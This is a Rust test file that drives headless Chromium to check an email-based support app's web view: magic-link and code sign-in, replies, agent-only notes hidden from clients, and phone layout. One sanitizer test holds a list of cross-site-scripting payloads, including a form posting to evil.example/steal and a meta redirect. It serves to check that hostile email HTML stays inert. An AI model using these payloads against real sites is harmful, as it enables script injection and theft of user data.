@@ -1,0 +1,638 @@
+//! The web view in a real browser: Debian's Chromium, headless, driven over WebDriver
+//! (chromedriver) with fantoccini. A client follows the sign-in link from their notification
+//! email, reads the history and replies, and the agent gets that reply by email; a client never
+//! sees an agent's note; hostile HTML from an email runs no script; signing in by code works;
+//! pages fit a phone's width. Screenshots of the main pages go to `target/screenshots/`.
+//!
+//! Needs `chromium` and `chromium-driver` (`.ci/run` installs them). Without them the suite
+//! says so and passes, except under CI (`CI` set), where their absence is a failure.
+
+mod support;
+
+use fantoccini::{Client, ClientBuilder, Locator};
+use serde_json::json;
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+use support::web::{code_in, magic_link};
+use support::*;
+
+const AGENT: &str = "agnes@team.test";
+const CLIENT: &str = "carl@client.test";
+
+fn chromedriver() -> Option<PathBuf> {
+    ["/usr/bin/chromedriver", "/usr/lib/chromium/chromedriver"]
+        .iter()
+        .map(PathBuf::from)
+        .find(|p| p.exists())
+}
+
+fn chromium() -> Option<PathBuf> {
+    ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
+        .iter()
+        .map(PathBuf::from)
+        .find(|p| p.exists())
+}
+
+/// A headless Chromium session; the driver process dies with it.
+struct Browser {
+    client: Client,
+    driver: Child,
+    _profile: tempfile::TempDir,
+}
+
+impl Drop for Browser {
+    fn drop(&mut self) {
+        let _ = self.driver.kill();
+        let _ = self.driver.wait();
+    }
+}
+
+/// Starts chromedriver on a free port and a headless Chromium session at `width`×`height`;
+/// None (the test is skipped) when they are not installed outside CI.
+async fn browser(width: u32, height: u32) -> Option<Browser> {
+    let (Some(driver_path), Some(chromium_path)) = (chromedriver(), chromium()) else {
+        if std::env::var_os("CI").is_some() {
+            panic!("chromium and chromium-driver are required in CI (.ci/run installs them)");
+        }
+        eprintln!("skipping: install chromium and chromium-driver to run the browser suite");
+        return None;
+    };
+    let profile = tempfile::tempdir().unwrap();
+    let mut caps = serde_json::Map::new();
+    caps.insert("browserName".into(), json!("chrome"));
+    let mut options = json!({
+            "binary": chromium_path,
+            "args": [
+                "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
+                "--disable-quic", "--no-first-run", "--disable-background-networking",
+                "--disable-component-update", "--disable-sync", "--hide-scrollbars",
+                format!("--window-size={width},{height}"),
+                format!("--user-data-dir={}", profile.path().display()),
+            ],
+    });
+    // Desktop windows are at least 500 px wide; a phone is emulated (viewport, touch, DPR).
+    if width < 500 {
+        options["mobileEmulation"] = json!({
+            "deviceMetrics": {"width": width, "height": height, "pixelRatio": 2.0, "touch": true},
+        });
+    }
+    caps.insert("goog:chromeOptions".into(), options);
+    // A free port is found by binding port 0 and letting it go; another test may take it in
+    // between, so a failed start is retried on a new port.
+    let mut last_error = String::new();
+    for _ in 0..5 {
+        let port = {
+            let probe = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+            probe.local_addr().unwrap().port()
+        };
+        let mut driver = Command::new(&driver_path)
+            .arg(format!("--port={port}"))
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .expect("start chromedriver");
+        let deadline = std::time::Instant::now() + Duration::from_secs(20);
+        while tokio::net::TcpStream::connect(("127.0.0.1", port))
+            .await
+            .is_err()
+            && std::time::Instant::now() < deadline
+            && driver.try_wait().ok().flatten().is_none()
+        {
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        let connector = hyper_util::client::legacy::connect::HttpConnector::new();
+        match ClientBuilder::new(connector)
+            .capabilities(caps.clone())
+            .connect(&format!("http://127.0.0.1:{port}"))
+            .await
+        {
+            Ok(client) => {
+                return Some(Browser {
+                    client,
+                    driver,
+                    _profile: profile,
+                });
+            }
+            Err(err) => {
+                last_error = err.to_string();
+                let _ = driver.kill();
+                let _ = driver.wait();
+            }
+        }
+    }
+    panic!("could not start a WebDriver session: {last_error}");
+}
+fn screenshot_dir() -> PathBuf {
+    let target = std::env::var_os("CARGO_TARGET_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target"));
+    let dir = target.join("screenshots");
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+async fn screenshot(b: &Browser, name: &str) {
+    let png = b.client.screenshot().await.expect("screenshot");
+    std::fs::write(screenshot_dir().join(format!("{name}.png")), png).unwrap();
+}
+
+async fn page_source(b: &Browser) -> String {
+    b.client.source().await.expect("page source")
+}
+
+/// The page is no wider than the window: nothing scrolls sideways.
+async fn assert_fits_width(b: &Browser, what: &str) {
+    let dims = b
+        .client
+        .execute(
+            "return [document.documentElement.scrollWidth, document.documentElement.clientWidth, window.innerWidth];",
+            vec![],
+        )
+        .await
+        .unwrap();
+    let scroll = dims[0].as_f64().unwrap();
+    let client = dims[1].as_f64().unwrap();
+    assert!(
+        dims[2].as_f64().unwrap() <= 400.0,
+        "a phone-sized viewport: {dims}"
+    );
+    assert!(
+        scroll <= client,
+        "{what}: {scroll}px of content in a {client}px-wide window ({dims})"
+    );
+}
+
+async fn send(app: &TestApp, from: &str, to: &str, data: &str) {
+    let (mut c, _) = SmtpClient::connect(app.smtp).await;
+    c.cmd("EHLO client.test").await;
+    assert_eq!(c.send_mail(from, &[to], data).await.code, 250);
+    c.cmd("QUIT").await;
+}
+
+/// The latest email to `recipient` about the conversation whose subject contains `about`.
+async fn email_about(app: &TestApp, recipient: &str, about: &str) -> Email {
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
+    loop {
+        if let Some(email) = outbox_emails(&app.outbox_dir(), recipient)
+            .into_iter()
+            .rev()
+            .find(|e| e.header("Subject").is_some_and(|s| s.contains(about)))
+        {
+            return email;
+        }
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "no email to {recipient} about {about:?}: {:?}",
+            outbox_emails(&app.outbox_dir(), recipient)
+                .iter()
+                .map(|e| e.header("Subject").unwrap_or("").to_string())
+                .collect::<Vec<_>>()
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+const ORDER: &str = "Order #1042";
+
+struct Scene {
+    app: TestApp,
+    agent: String,
+    client: String,
+    conversation: String,
+}
+
+/// A conversation with a little history (a message, an emailed HTML reply with an
+/// attachment, an agent's answer) and two more conversations for the list.
+async fn scene(db: &TestDb) -> Scene {
+    let app = spawn_app(db, &[]).await;
+    let agent = app.person(AGENT, "Agnes Agent", "internal").await;
+    let client = app.person(CLIENT, "Carl Client", "client").await;
+    let conversation = app
+        .conversation("Order #1042: damaged box", &agent, &[&client])
+        .await;
+    app.say(
+        &conversation,
+        &agent,
+        "Hello Carl,\n\nsorry to hear the box arrived damaged. Could you send us a photo?\n\nAgnes",
+        "message",
+    )
+    .await;
+    let email = app.wait_for_emails(CLIENT, 1).await.remove(0);
+    let reply = format!(
+        "From: Carl Client <{CLIENT}>\r\nTo: {to}\r\nSubject: Re: Order #1042\r\nMessage-ID: <photo@client.test>\r\n\
+In-Reply-To: {irt}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"m\"\r\n\r\n\
+--m\r\nContent-Type: multipart/alternative; boundary=\"a\"\r\n\r\n\
+--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHere it is. The corner is crushed.\r\n\r\nOn Mon, Agnes Agent wrote:\r\n> Hello Carl\r\n\
+--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<div dir=\"ltr\"><p>Here it is. The corner is <b>crushed</b>.</p>\
+<p>Tracking: https://carrier.example/track/0123456789012345678901234567890123456789012345678901234567890123456789</p>\
+<table width=\"900\"><tr><td>Wide table from a newsletter-style signature</td><td>more columns</td></tr></table></div>\
+<div class=\"gmail_quote\"><blockquote class=\"gmail_quote\">Hello Carl</blockquote></div>\r\n--a--\r\n\
+--m\r\nContent-Type: application/pdf; name=\"delivery-note.pdf\"\r\nContent-Disposition: attachment; filename=\"delivery-note.pdf\"\r\n\
+Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQKJcTl8uXrp/Og0MTGCg==\r\n--m--\r\n",
+        to = email.reply_to(),
+        irt = email.message_id()
+    );
+    send(&app, CLIENT, &email.reply_to(), &reply).await;
+    app.say(
+        &conversation,
+        &agent,
+        "Thank you! A replacement is on its way; you will get the tracking number tomorrow.",
+        "message",
+    )
+    .await;
+    app.say(&conversation, &client, "Perfect, thank you.", "message")
+        .await;
+    // Agents who work from their mail client get every message at once.
+    let (status, _) = app
+        .patch(
+            &format!("/people/{agent}"),
+            json!({"notifications": "immediate"}),
+        )
+        .await;
+    assert_eq!(status, 200);
+    let other = app
+        .person("dora@client.test", "Dora Client", "client")
+        .await;
+    let c2 = app
+        .conversation("Invoice question", &agent, &[&other])
+        .await;
+    app.say(
+        &c2,
+        &other,
+        "Is VAT included in the March invoice?",
+        "message",
+    )
+    .await;
+    let c3 = app
+        .conversation("Onboarding call", &agent, &[&client])
+        .await;
+    app.say(&c3, &agent, "Does Thursday 10:00 work for you?", "message")
+        .await;
+    Scene {
+        app,
+        agent,
+        client,
+        conversation,
+    }
+}
+
+#[tokio::test]
+async fn a_client_follows_the_emailed_link_reads_the_history_and_replies() {
+    for db in test_databases().await {
+        let Some(b) = browser(1280, 900).await else {
+            return;
+        };
+        let s = scene(&db).await;
+        let agent_before = email_about(&s.app, AGENT, ORDER).await;
+        let agent_before = outbox_emails(&s.app.outbox_dir(), AGENT)
+            .iter()
+            .position(|e| e.file_stem == agent_before.file_stem)
+            .unwrap()
+            + 1;
+        let email = email_about(&s.app, CLIENT, ORDER).await;
+        b.client.goto(&magic_link(&email)).await.unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("ol.history"))
+            .await
+            .expect("the conversation page");
+        let html = page_source(&b).await;
+        for shown in [
+            "sorry to hear the box arrived damaged",
+            "The corner is <b>crushed</b>",
+            "delivery-note.pdf",
+            "A replacement is on its way",
+            "Show trimmed content",
+        ] {
+            assert!(
+                html.contains(shown),
+                "{shown:?} not on the page ({})",
+                db.backend
+            );
+        }
+        screenshot(&b, "conversation-client").await;
+
+        let body = b.client.find(Locator::Css("textarea#body")).await.unwrap();
+        body.send_keys("Great, thanks a lot! I will keep the old box until then.")
+            .await
+            .unwrap();
+        b.client
+            .find(Locator::Css("form.reply button[type=submit]"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::XPath(
+                "//div[contains(@class,'text') and contains(., 'I will keep the old box')]",
+            ))
+            .await
+            .expect("the reply shows in the history");
+        let emails = s.app.wait_for_emails(AGENT, agent_before + 1).await;
+        assert!(
+            emails
+                .last()
+                .unwrap()
+                .text
+                .contains("I will keep the old box until then."),
+            "the agent is emailed the reply"
+        );
+        let messages = s.app.messages(&s.conversation).await;
+        assert_eq!(messages.last().unwrap()["source"], "web");
+        assert_eq!(messages.last().unwrap()["author_id"], s.client.as_str());
+
+        b.client
+            .goto(&format!("http://{}/", s.app.http))
+            .await
+            .unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("ul.conversations"))
+            .await
+            .unwrap();
+        screenshot(&b, "list-client").await;
+        b.client.clone().close().await.ok();
+        s.app.stop().await;
+    }
+}
+
+#[tokio::test]
+async fn an_agent_s_note_never_reaches_the_client_s_page() {
+    for db in test_databases().await {
+        let Some(b) = browser(1280, 900).await else {
+            return;
+        };
+        let s = scene(&db).await;
+        // The agent signs in from their own notification and writes a note.
+        let agent_email = email_about(&s.app, AGENT, ORDER).await;
+        b.client.goto(&magic_link(&agent_email)).await.unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("textarea#body"))
+            .await
+            .unwrap();
+        b.client
+            .find(Locator::Css("textarea#body"))
+            .await
+            .unwrap()
+            .send_keys("Internal: approve the replacement, carrier claim #77")
+            .await
+            .unwrap();
+        b.client
+            .find(Locator::Css("input[name=kind][value=note]"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        b.client
+            .find(Locator::Css("form.reply button[type=submit]"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("li.message.note"))
+            .await
+            .expect("the note, marked as a note");
+        let html = page_source(&b).await;
+        assert!(html.contains("carrier claim #77") && html.contains(CLIENT));
+        screenshot(&b, "conversation-agent").await;
+        b.client
+            .goto(&format!("http://{}/", s.app.http))
+            .await
+            .unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("nav.tabs"))
+            .await
+            .unwrap();
+        screenshot(&b, "list-agent").await;
+        // Sign out, then in as the client.
+        b.client
+            .find(Locator::Css("header form button"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("input#email"))
+            .await
+            .unwrap();
+        let client_email = email_about(&s.app, CLIENT, ORDER).await;
+        b.client.goto(&magic_link(&client_email)).await.unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("ol.history"))
+            .await
+            .unwrap();
+        let html = page_source(&b).await;
+        assert!(
+            html.contains("A replacement is on its way"),
+            "{}",
+            db.backend
+        );
+        for hidden in ["carrier claim #77", "Internal note", AGENT, "Participants"] {
+            assert!(!html.contains(hidden), "the client sees {hidden:?}");
+        }
+        let _ = (&s.agent, &s.client);
+        b.client.clone().close().await.ok();
+        s.app.stop().await;
+    }
+}
+
+#[tokio::test]
+async fn hostile_html_in_an_email_runs_no_script_in_the_page() {
+    for db in test_databases().await {
+        let Some(b) = browser(1280, 900).await else {
+            return;
+        };
+        let s = scene(&db).await;
+        let email = email_about(&s.app, CLIENT, ORDER).await;
+        let payload = "<p>Hello <b>team</b></p>\
+<script>window.pwned = 1; document.title = 'pwned'</script>\
+<img src=\"x\" onerror=\"window.pwned = 2\"><svg onload=\"window.pwned = 3\"></svg>\
+<a id=\"js\" href=\"javascript:window.pwned = 4\">click me</a>\
+<iframe src=\"javascript:parent.pwned = 5\"></iframe><object data=\"javascript:window.pwned=6\"></object>\
+<div style=\"background:url(javascript:window.pwned=7)\" onmouseover=\"window.pwned=8\">hover</div>\
+<details open ontoggle=\"window.pwned = 9\">toggle</details>\
+<form action=\"https://evil.example/steal\"><input name=\"q\"><button>go</button></form>\
+<math><mi xlink:href=\"javascript:window.pwned=10\">m</mi></math>\
+<noscript><p title=\"</noscript><img src=x onerror=window.pwned=11>\"></noscript>\
+<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">";
+        let data = format!(
+            "From: Carl Client <{CLIENT}>\r\nTo: {to}\r\nSubject: Re: hi\r\nMessage-ID: <xss@client.test>\r\n\
+In-Reply-To: {irt}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{payload}\r\n",
+            to = email.reply_to(),
+            irt = email.message_id()
+        );
+        send(&s.app, CLIENT, &email.reply_to(), &data).await;
+        let agent_email = email_about(&s.app, AGENT, ORDER).await;
+        b.client.goto(&magic_link(&agent_email)).await.unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("ol.history"))
+            .await
+            .unwrap();
+        let html = page_source(&b).await;
+        assert!(
+            html.contains("Hello <b>team</b>"),
+            "the harmless part is kept ({})",
+            db.backend
+        );
+        if let Ok(link) = b.client.find(Locator::Id("js")).await {
+            let _ = link.click().await;
+        }
+        if let Ok(hover) = b
+            .client
+            .find(Locator::XPath("//div[contains(., 'hover')]"))
+            .await
+        {
+            let _ = hover.click().await;
+        }
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        assert!(
+            b.client.get_alert_text().await.is_err(),
+            "no dialog was opened"
+        );
+        let state = b
+            .client
+            .execute(
+                "return [typeof window.pwned, document.title, location.host, document.querySelectorAll('script, iframe, object, form[action^=http], base, meta[http-equiv]').length];",
+                vec![],
+            )
+            .await
+            .unwrap();
+        assert_eq!(state[0], "undefined", "a payload ran: {state}");
+        assert_ne!(state[1], "pwned");
+        assert_eq!(
+            state[2].as_str().unwrap(),
+            s.app.http.to_string(),
+            "never navigated away"
+        );
+        assert_eq!(state[3], 0, "no active elements from the email: {state}");
+        b.client.clone().close().await.ok();
+        s.app.stop().await;
+    }
+}
+
+#[tokio::test]
+async fn signing_in_with_a_code_by_email_works_in_the_browser() {
+    for db in test_databases().await {
+        let Some(b) = browser(1280, 900).await else {
+            return;
+        };
+        let s = scene(&db).await;
+        let before = s.app.wait_for_emails(CLIENT, 2).await.len();
+        b.client
+            .goto(&format!("http://{}/c/{}", s.app.http, s.conversation))
+            .await
+            .unwrap();
+        let email_field = b
+            .client
+            .wait()
+            .for_element(Locator::Css("input#email"))
+            .await
+            .expect("sent to sign in");
+        screenshot(&b, "login").await;
+        email_field.send_keys(CLIENT).await.unwrap();
+        b.client
+            .find(Locator::Css("form button[type=submit]"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        let code_field = b
+            .client
+            .wait()
+            .for_element(Locator::Css("input#code"))
+            .await
+            .unwrap();
+        let code = code_in(
+            &s.app
+                .wait_for_emails(CLIENT, before + 1)
+                .await
+                .pop()
+                .unwrap(),
+        );
+        code_field.send_keys(&code).await.unwrap();
+        b.client
+            .find(Locator::Css("main form button[type=submit]"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("ol.history"))
+            .await
+            .expect("back on the conversation it asked for");
+        let url = b.client.current_url().await.unwrap();
+        assert_eq!(
+            url.path(),
+            format!("/c/{}", s.conversation),
+            "{}",
+            db.backend
+        );
+        b.client.clone().close().await.ok();
+        s.app.stop().await;
+    }
+}
+
+#[tokio::test]
+async fn pages_fit_a_phone_screen_without_sideways_scrolling() {
+    for db in test_databases().await {
+        let Some(b) = browser(390, 844).await else {
+            return;
+        };
+        let s = scene(&db).await;
+        let agent_email = email_about(&s.app, AGENT, ORDER).await;
+        b.client
+            .goto(&format!("http://{}/login", s.app.http))
+            .await
+            .unwrap();
+        assert_fits_width(&b, "login").await;
+        b.client.goto(&magic_link(&agent_email)).await.unwrap();
+        b.client
+            .wait()
+            .for_element(Locator::Css("ol.history"))
+            .await
+            .unwrap();
+        assert_fits_width(&b, "conversation (agent)").await;
+        screenshot(&b, "conversation-phone").await;
+        for (path, what) in [
+            ("/", "list"),
+            ("/settings", "settings"),
+            ("/new", "new conversation"),
+        ] {
+            b.client
+                .goto(&format!("http://{}{path}", s.app.http))
+                .await
+                .unwrap();
+            b.client
+                .wait()
+                .for_element(Locator::Css("main h1"))
+                .await
+                .unwrap();
+            assert_fits_width(&b, what).await;
+        }
+        screenshot(&b, "new-phone").await;
+        b.client
+            .goto(&format!("http://{}/", s.app.http))
+            .await
+            .unwrap();
+        screenshot(&b, "list-phone").await;
+        let _ = &db.backend;
+        b.client.clone().close().await.ok();
+        s.app.stop().await;
+    }
+}
